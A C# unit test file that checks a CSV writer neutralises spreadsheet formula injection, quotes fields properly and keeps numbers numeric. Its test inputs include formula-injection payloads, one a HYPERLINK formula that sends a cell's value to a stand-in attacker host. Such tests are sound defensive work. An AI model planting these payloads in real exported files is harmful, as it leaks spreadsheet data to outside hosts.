using System.Globalization;
using AmbassadorNet.ServiceDefaults.Files;
using CsvHelper;

namespace ServiceDefaults.Tests.Files;

/// <summary>The one CSV writer: text a spreadsheet would evaluate is defused, numbers stay numbers, RFC 4180 quoting holds.</summary>
public sealed class CsvFileTests
{
    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1")]
    [InlineData("-1+2")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1")]
    [InlineData("\r=1")]
    [InlineData("＝1")]
    [InlineData("＋1")]
    [InlineData("－1")]
    [InlineData("＠SUM(A1)")]
    [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")")]
    public void Text_that_starts_like_a_formula_is_read_back_with_an_apostrophe_in_front(string text)
    {
        var rows = ReadBack(new CsvFile(["name"]).Row(text));

        Assert.Equal("'" + text, rows[1][0]);
    }

    [Theory]
    [InlineData("Ben \"the Baker\", Jr.")]
    [InlineData("two\r\nlines")]
    [InlineData("a=b")]
    [InlineData(" =leading space is not a formula")]
    public void Other_text_is_read_back_as_it_was(string text)
    {
        var rows = ReadBack(new CsvFile(["name"]).Row(text));

        Assert.Equal(text, rows[1][0]);
    }

    [Fact]
    public void A_negative_amount_is_written_as_a_number_and_parses_as_one()
    {
        var csv = new CsvFile(["amount", "count"]).Row(CsvCell.Of(-12.5m, "F2"), -3).ToString();

        Assert.Equal("amount,count\r\n-12.50,-3\r\n", csv);
        var rows = ReadBack(csv);
        Assert.Equal(-12.50m, decimal.Parse(rows[1][0], NumberStyles.Number, CultureInfo.InvariantCulture));
    }

    [Fact]
    public void Missing_values_are_empty_fields()
    {
        var csv = new CsvFile(["id", "name", "amount"]).Row((Guid?)null, (string?)null, CsvCell.Empty).ToString();

        Assert.Equal("id,name,amount\r\n,,\r\n", csv);
    }

    private static List<string[]> ReadBack(CsvFile file) => ReadBack(file.ToString());

    /// <summary>Every record, the header included, as CsvHelper's reader gives it back.</summary>
    private static List<string[]> ReadBack(string text)
    {
        using var reader = CsvReader.FromText(text, CsvReaderOptions.Default with { HasHeader = false, Separator = ',' });
        var rows = new List<string[]>();
        while (reader.Read())
        {
            rows.Add(reader.Current.ToArray());
        }

        return rows;
    }
}
